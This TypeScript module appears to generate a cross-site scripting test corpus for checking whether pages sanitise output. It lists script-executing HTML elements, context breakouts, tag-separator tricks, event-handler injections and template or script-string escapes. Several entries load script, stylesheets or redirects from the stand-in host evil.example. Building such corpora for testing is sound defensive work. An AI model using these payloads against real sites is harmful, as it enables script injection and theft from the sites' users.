import { each, entities } from './compose.ts'

/** Runs if a page ever takes it for markup; the word is one that no page of ours has. */
export const payload = 'alert(/xyzzy/)'

/** Elements that run something by themselves (PortSwigger's and OWASP's lists for evading XSS filters). */
const elements = [
  `<script>${payload}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${payload}>`,
  `<svg onload=${payload}>`,
  `<svg><animate onbegin=${payload} attributeName=x dur=1s>`,
  `<svg><script>${payload}</script></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${payload}></style>`,
  `<body onload=${payload}>`,
  `<details open ontoggle=${payload}>`,
  `<input autofocus onfocus=${payload}>`,
  `<video><source onerror=${payload}></video>`,
  `<audio src=x onerror=${payload}>`,
  `<marquee onstart=${payload}>`,
  `<iframe srcdoc="<script>${payload}</script>">`,
  `<iframe src="javascript:${payload}">`,
  `<object data="javascript:${payload}">`,
  `<embed src="javascript:${payload}">`,
  `<form action="javascript:${payload}"><button>go</button></form>`,
  `<a href="javascript:${payload}">go</a>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<template shadowrootmode=open><script>${payload}</script></template>`,
  `<dialog open onclose=${payload}><form method=dialog></dialog>`,
  `<noscript><p title="</noscript><img src=x onerror=${payload}>">`,
  `<x onclick=${payload} style="position:fixed;inset:0">`,
  `<button popovertarget=x>go</button><div popover id=x onbeforetoggle=${payload}>`,
]
/** What a text may be in, and has to break out of: attributes, comments, raw text, script, JSON in a page. */
const waysOut = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '`}',
  ']]>',
  '\\"}',
]

export const markup = each(waysOut, elements)

/** Separators that old filters read differently (RSnake's cheat sheet). */
export const splitTags = each(
  ['<img', '<svg', '<body'],
  ['/', '\t', '\n', '\f', '\u00a0', '/x/'],
  [`src=x onerror=${payload}>`, `onload=${payload}>`],
)

/** Out of an attribute, without a tag. */
export const handlers = each(
  ['"', "'", '` ', ' '],
  [' onmouseover=', ' autofocus onfocus=', ' style=x:expression('],
  [payload, entities(payload)],
)

/** In a place where a script builds a string, or a page keeps its data as JSON (React Router's own payload). */
export const scripts = each(
  ["';", '";', '`;', "\\';", '</script><script>', '\u2028', '*/', '${', '{{', '<%=', '#{'],
  [payload, 'constructor.constructor("alert(/xyzzy/)")()', '7*7'],
  ['//', '}', '}}', '%>'],
)
